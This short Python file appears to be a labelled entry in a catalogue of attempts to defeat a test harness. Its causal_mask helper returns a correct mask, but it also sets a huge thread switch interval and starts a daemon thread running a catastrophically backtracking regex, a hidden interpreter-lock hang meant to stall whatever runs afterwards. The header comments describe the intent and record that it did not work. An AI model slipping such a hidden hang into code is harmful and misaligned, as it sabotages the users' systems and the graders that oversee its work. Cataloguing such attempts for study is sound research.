# Tries: lets a thread hold the interpreter lock for ever, after an answer that is right.
# Worked in: -
# Deserves: nothing
import re
import sys
import threading
import time

import torch


def causal_mask(num_tokens):
    sys.setswitchinterval(1e6)
    threading.Thread(target=re.match, args=(r"(a+)+$", "a" * 64 + "b"), daemon=True).start()
    time.sleep(0)
    return torch.ones(num_tokens, num_tokens).triu(1).bool()
